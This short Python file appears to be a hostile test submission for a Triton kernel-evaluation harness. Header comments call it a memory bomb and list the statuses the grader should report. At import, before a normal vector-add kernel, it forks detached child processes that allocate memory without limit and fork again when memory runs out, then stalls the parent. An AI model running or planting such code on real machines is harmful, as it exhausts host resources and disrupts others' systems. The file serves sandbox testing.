#| task = "triton_add"
#| class = "a memory bomb"
#| does = "asks for memory in children that it does not own to"
#| status = ["crash", "compile-error", "timeout"]
#| says = "memory|processes|took too long"
#| wall_s = 12.0
import os
import time

import triton
import triton.language as tl

if os.fork() == 0:
    if os.fork() == 0:
        held = []
        while True:
            try:
                held.append(os.urandom(1 << 22) * 8)
            except MemoryError:
                time.sleep(1)
                os.fork()
    os._exit(0)
time.sleep(60)


@triton.jit
def add(x_ptr, y_ptr, z_ptr, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(z_ptr + at, tl.load(x_ptr + at, mask=at < n) + tl.load(y_ptr + at, mask=at < n), mask=at < n)
